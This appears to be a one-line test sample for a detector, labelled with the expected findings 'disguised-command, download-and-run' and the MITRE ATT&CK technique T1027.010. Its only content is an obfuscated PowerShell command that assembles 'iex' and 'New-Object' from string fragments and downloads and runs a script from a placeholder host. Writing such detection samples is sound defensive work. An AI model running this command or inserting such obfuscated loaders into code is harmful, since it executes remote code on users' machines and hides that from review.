# expect: disguised-command, download-and-run | source: MITRE ATT&CK T1027.010
&("{1}{0}" -f 'ex','i') (&("{2}{0}{1}" -f 'ew-Ob','ject','N') Net.WebClient).DownloadString('http://files.example.invalid/stage')
